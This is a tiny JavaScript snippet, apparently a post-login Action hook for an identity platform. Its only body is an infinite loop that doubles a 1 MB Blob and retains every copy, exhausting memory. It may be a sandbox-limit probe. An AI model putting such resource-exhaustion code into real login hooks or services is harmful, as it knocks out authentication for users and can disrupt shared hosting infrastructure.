exports.onExecutePostLogin = async function (event, api) {
  let b = new Blob(["x".repeat(1e6)]); const all = []; for (;;) { b = new Blob([b, b]); all.push(b); }
};
